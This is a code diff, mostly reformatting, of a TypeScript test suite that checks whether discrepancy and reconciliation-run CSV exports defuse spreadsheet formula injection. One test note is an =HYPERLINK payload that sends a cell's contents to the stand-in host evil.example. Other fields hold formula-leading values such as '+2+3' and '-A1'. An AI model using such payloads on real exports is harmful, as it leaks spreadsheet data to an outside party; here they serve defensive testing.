@@ -15,8 +15,12 @@ import type { RunReport } from '../../../src/reconciliation/run-view';
 import { api, finding, openCases } from '../notifications-support';
 
 let t: TestGateway;
-beforeAll(async () => { t = await startTestGateway('csv_injection', { workers: false }); });
-afterAll(async () => { await t.close(); });
+beforeAll(async () => {
+  t = await startTestGateway('csv_injection', { workers: false });
+});
+afterAll(async () => {
+  await t.close();
+});
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")';
 /** A cell a spreadsheet would evaluate: a formula lead that is not a plain decimal. */
@@ -24,7 +28,11 @@ const live = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)
 
 /** The export's bytes, as ops' browser saves them. */
 async function download(path: string): Promise<Buffer> {
-  const r = await axios.get(`${t.baseUrl}${path}`, { responseType: 'arraybuffer', validateStatus: () => true, headers: { authorization: `Bearer ${TEST_CLIENTS.ops.token}` } });
+  const r = await axios.get(`${t.baseUrl}${path}`, {
+    responseType: 'arraybuffer',
+    validateStatus: () => true,
+    headers: { authorization: `Bearer ${TEST_CLIENTS.ops.token}` },
+  });
   expect(r.status).toBe(200);
   return Buffer.from(r.data as ArrayBuffer);
 }
@@ -32,10 +40,20 @@ async function download(path: string): Promise<Buffer> {
 describe('the discrepancy export', () => {
   let caseId: string;
   beforeAll(async () => {
-    [caseId] = await openCases(t, [finding({
-      code: 'UNKNOWN_SETTLEMENT', severity: 'high', setl_id: '+2+3', subject_key: 'line:PAY-CSV:1', insurer_code: 'PICC_DH', admdvs: '533102',
-      expected_amount: '12.50', actual_amount: '0.00', difference: '-12.50', detail: 'Payment PAY-CSV line 1 names settlement +2+3',
-    })]) as [string];
+    [caseId] = (await openCases(t, [
+      finding({
+        code: 'UNKNOWN_SETTLEMENT',
+        severity: 'high',
+        setl_id: '+2+3',
+        subject_key: 'line:PAY-CSV:1',
+        insurer_code: 'PICC_DH',
+        admdvs: '533102',
+        expected_amount: '12.50',
+        actual_amount: '0.00',
+        difference: '-12.50',
+        detail: 'Payment PAY-CSV line 1 names settlement +2+3',
+      }),
+    ])) as [string];
     const ack = await api(t, 'post', `/v1/discrepancies/${caseId}/acknowledge`, 'agency', { note: HYPERLINK });
     expect(ack.status).toBe(200);
   });
@@ -77,11 +95,46 @@ describe('the discrepancy export', () => {
 describe('the reconciliation run export', () => {
   const report = {
     full: true,
-    run: { run_id: 'run-csv', admdvs: '5331', period: '2025-03', as_of: new Date('2025-04-30T16:00:00Z'), status: 'completed', summary: null, created_at: new Date(), finished_at: new Date() },
+    run: {
+      run_id: 'run-csv',
+      admdvs: '5331',
+      period: '2025-03',
+      as_of: new Date('2025-04-30T16:00:00Z'),
+      status: 'completed',
+      summary: null,
+      created_at: new Date(),
+      finished_at: new Date(),
+    },
     // An institution code may be letters, digits, `_` and `-` (spec §1): `-A1` is a formula to Excel.
     institutions: [
-      { fixmedins_code: '-A1', declared_cnt: 1, declared_hifob: '100.00', recorded_cnt: 1, recorded_hifob: '100.00', recorded_direct_cnt: 1, recorded_direct_hifob: '100.00', paid: '112.50', rejected: '0.00', recovered: '0.00', outstanding: '-12.50', balanced: true },
-      { fixmedins_code: 'H53310200001', declared_cnt: 1, declared_hifob: '50.00', recorded_cnt: 1, recorded_hifob: '50.00', recorded_direct_cnt: 1, recorded_direct_hifob: '50.00', paid: '50.00', rejected: '0.00', recovered: '0.00', outstanding: '0.00', balanced: true },
+      {
+        fixmedins_code: '-A1',
+        declared_cnt: 1,
+        declared_hifob: '100.00',
+        recorded_cnt: 1,
+        recorded_hifob: '100.00',
+        recorded_direct_cnt: 1,
+        recorded_direct_hifob: '100.00',
+        paid: '112.50',
+        rejected: '0.00',
+        recovered: '0.00',
+        outstanding: '-12.50',
+        balanced: true,
+      },
+      {
+        fixmedins_code: 'H53310200001',
+        declared_cnt: 1,
+        declared_hifob: '50.00',
+        recorded_cnt: 1,
+        recorded_hifob: '50.00',
+        recorded_direct_cnt: 1,
+        recorded_direct_hifob: '50.00',
+        paid: '50.00',
+        rejected: '0.00',
+        recovered: '0.00',
+        outstanding: '0.00',
+        balanced: true,
+      },
     ],
     insurers: [],
   } as unknown as RunReport;
